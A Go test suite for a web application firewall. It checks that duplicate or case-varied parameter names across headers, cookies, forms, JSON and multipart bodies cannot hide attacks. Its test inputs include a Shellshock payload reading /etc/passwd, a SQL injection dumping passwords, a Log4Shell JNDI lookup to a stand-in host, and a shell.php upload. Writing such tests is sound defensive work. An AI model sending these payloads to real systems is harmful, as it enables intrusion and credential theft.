package waf

import (
	"fmt"
	"strings"
	"testing"
)

const (
	attack      = "vbscript:x" // one rule alone finds it, so that nothing makes up for a miss
	repetitions = 1000
)

// always refuses what is made, each time: what slips through by chance does so in some of a thousand.
func always(t *testing.T, build func() *Request) {
	t.Helper()
	w := newWAF(t)
	times := repetitions
	if testing.Short() {
		times = 50
	}
	missed := 0
	for range times {
		if got := inspect(t, w, build()); !got.Blocked || got.Fault != nil {
			missed++
		}
	}
	if missed > 0 {
		t.Errorf("%d of %d attacks passed", missed, times)
	}
}

func withHeader(name string, values ...string) *Request {
	r := request("GET", "/search?q=milk", "", "")
	r.Headers[name] = values
	return r
}

const formType = "application/x-www-form-urlencoded"

// parts makes a multipart form of name, value pairs.
func parts(pairs ...string) *Request {
	var b strings.Builder
	for i := 0; i < len(pairs); i += 2 {
		fmt.Fprintf(&b, "--xYz7\r\nContent-Disposition: form-data; name=%q\r\n\r\n%s\r\n", pairs[i], pairs[i+1])
	}
	b.WriteString("--xYz7--\r\n")
	return request("POST", "/save", "multipart/form-data; boundary=xYz7", b.String())
}

// TestRepeatedNamesHideNothing: the engine's cache of transformed values mixes up values that share a name string.
func TestRepeatedNamesHideNothing(t *testing.T) {
	for name, build := range map[string]func() *Request{
		"header, attack first":      func() *Request { return withHeader("X-Test", "() { :;}; /bin/cat /etc/passwd", "ok") },
		"header, attack last":       func() *Request { return withHeader("X-Test", "ok", "() { :;}; /bin/cat /etc/passwd") },
		"cookie in one field":       func() *Request { return withHeader("Cookie", "a="+attack+"; a=ok; b=1") },
		"cookie in one field, last": func() *Request { return withHeader("Cookie", "b=1; a=ok; a="+attack) },
		"cookie in two fields":      func() *Request { return withHeader("Cookie", "a="+attack+"; b=1", "a=ok") },
		"cookies without a name":    func() *Request { return withHeader("Cookie", "="+attack+"; =ok; b=1") },
		"query":                     func() *Request { return request("GET", "/?x="+attack+"&x=ok&y=1", "", "") },
		"query, last":               func() *Request { return request("GET", "/?y=1&x=ok&x="+attack, "", "") },
		"query without names":       func() *Request { return request("GET", "/?="+attack+"&=ok&y=1", "", "") },
		"query and form":            func() *Request { return request("POST", "/?x=ok", formType, "x="+attack+"&y=1") },
		"form":                      func() *Request { return request("POST", "/", formType, "x="+attack+"&x=ok&y=1") },
		"form, last":                func() *Request { return request("POST", "/", formType, "y=1&x=ok&x="+attack) },
		"form without names":        func() *Request { return request("POST", "/", formType, "="+attack+"&=ok&y=1") },
		"JSON keys":                 func() *Request { return request("POST", "/", "application/json", `{"x":"`+attack+`","x":"ok","y":1}`) },
		"JSON key and path of one name": func() *Request {
			return request("POST", "/", "application/json", `{"a.b":"ok","a":{"b":"`+attack+`"},"y":1}`)
		},
		"JSON empty keys":                func() *Request { return request("POST", "/", "application/json", `{"":"`+attack+`","":"ok","y":1}`) },
		"multipart fields":               func() *Request { return parts("x", attack, "x", "ok", "y", "1") },
		"multipart fields without names": func() *Request { return parts("", attack, "", "ok", "y", "1") },
		"headers of one part": func() *Request {
			return request("POST", "/", "multipart/form-data; boundary=xYz7", "--xYz7\r\nContent-Disposition: form-data; name=\"x\"\r\n"+
				"Content-Type: text/plain; charset=ibm037\r\nX-A: ok\r\n\r\nv\r\n--xYz7\r\nContent-Disposition: form-data; name=\"y\"\r\n\r\nv\r\n--xYz7--\r\n")
		},
		"file names of one field": func() *Request {
			part := "--xYz7\r\nContent-Disposition: form-data; name=\"f\"; filename=\"%s\"\r\nContent-Type: text/plain\r\n\r\nv\r\n"
			return request("POST", "/", "multipart/form-data; boundary=xYz7", fmt.Sprintf(part+part, "shell.php", "ok.txt")+"--xYz7--\r\n")
		},
		"XML texts": func() *Request {
			return request("POST", "/", "text/xml", "<a><b>"+"ok</b><b>1 UNION SELECT password FROM users--</b></a>")
		},
	} {
		t.Run(name, func(t *testing.T) { t.Parallel(); always(t, build) })
	}
}

// TestNamesThatDifferInCaseHideNothing: the engine's reader of forms lets such names overwrite each other.
func TestNamesThatDifferInCaseHideNothing(t *testing.T) {
	orders := map[string][3]string{
		"attack first": {attack, "ok", "ok"}, "attack second": {"ok", attack, "ok"}, "attack third": {"ok", "ok", attack},
	}
	for order, v := range orders {
		for place, build := range map[string]func() *Request{
			"query":     func() *Request { return request("GET", "/?xy="+v[0]+"&xY="+v[1]+"&XY="+v[2], "", "") },
			"form":      func() *Request { return request("POST", "/", formType, "xy="+v[0]+"&xY="+v[1]+"&XY="+v[2]) },
			"escaped":   func() *Request { return request("POST", "/", formType, "%78y="+v[0]+"&%78Y="+v[1]+"&%58Y="+v[2]) },
			"no type":   func() *Request { return request("POST", "/", "text/plain", "xy="+v[0]+"&xY="+v[1]+"&XY="+v[2]) },
			"multipart": func() *Request { return parts("xy", v[0], "xY", v[1], "XY", v[2]) },
			"JSON": func() *Request {
				return request("POST", "/", "application/json", `{"xy":"`+v[0]+`","xY":"`+v[1]+`","XY":"`+v[2]+`"}`)
			},
			"cookies": func() *Request { return withHeader("Cookie", "xy="+v[0]+"; xY="+v[1]+"; XY="+v[2]) },
			"headers": func() *Request {
				r := withHeader("X-Forwarded-Note", strings.ReplaceAll(v[0], attack, "${jndi:ldap://x.test/a}"))
				r.Headers["x-forwarded-note"] = []string{strings.ReplaceAll(v[1], attack, "${jndi:ldap://x.test/a}")}
				r.Headers["X-FORWARDED-NOTE"] = []string{strings.ReplaceAll(v[2], attack, "${jndi:ldap://x.test/a}")}
				return r
			},
		} {
			t.Run(place+", "+order, func(t *testing.T) { t.Parallel(); always(t, build) })
		}
	}
}

func TestHonestRepeatedNamesPass(t *testing.T) {
	w := newWAF(t)
	for name, r := range map[string]*Request{
		"checkboxes": request("POST", "/", formType, "tag=red&tag=green&tag=blue&Tag=old"),
		"query":      request("GET", "/?id=1&id=2&ID=3", "", ""),
		"headers":    withHeader("X-Forwarded-Proto", "https", "http"),
		"cookies":    withHeader("Cookie", "theme=dark; theme=light; Theme=old"),
		"JSON":       request("POST", "/", "application/json", `{"a":"one","A":"two","a":"three"}`),
	} {
		t.Run(name, func(t *testing.T) {
			if got := inspect(t, w, r); got.Blocked || len(got.Rules) > 0 {
				t.Errorf("got %+v", got)
			}
		})
	}
}
